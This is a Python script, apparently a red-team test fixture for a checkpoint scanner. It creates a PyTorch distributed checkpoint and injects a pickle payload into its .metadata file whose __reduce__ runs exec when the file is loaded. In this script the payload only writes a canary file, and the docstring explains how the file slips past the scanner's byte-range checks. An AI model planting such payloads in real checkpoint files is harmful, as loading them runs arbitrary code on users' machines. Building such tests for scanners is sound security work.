"""A DCP checkpoint folder whose `.metadata` (read by FileSystemReader.read_metadata with plain
pickle.load, so by torch.distributed.checkpoint.load) names DCP's Metadata class first, as a
real one does, and later calls builtins.exec (writes a canary file). ckpt's folder logic lists
`.metadata` among the files the DCP metadata "owns", so `ckpt lint DIR/.metadata` judges it as a
DCP *data* file and scans only the byte ranges storage_data gives for it (none)."""
import os
import pickle
import sys

import torch
import torch.distributed.checkpoint as dcp

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/dcp_metadata"
folder = sys.argv[2] if len(sys.argv) > 2 else "dcp_ckpt"
dcp.save({"w": torch.zeros(2)}, checkpoint_id=folder)   # a real DCP folder
path = os.path.join(folder, ".metadata")
md = pickle.load(open(path, "rb"))

class Payload:
    def __reduce__(self):
        return (exec, (f"open({canary!r}, 'w').write('ran')",))

md.planner_data = {"w": ("w",), "note": Payload()}   # dataclass field: pickled after the class
pickle.dump(md, open(path, "wb"))
print("wrote", folder)
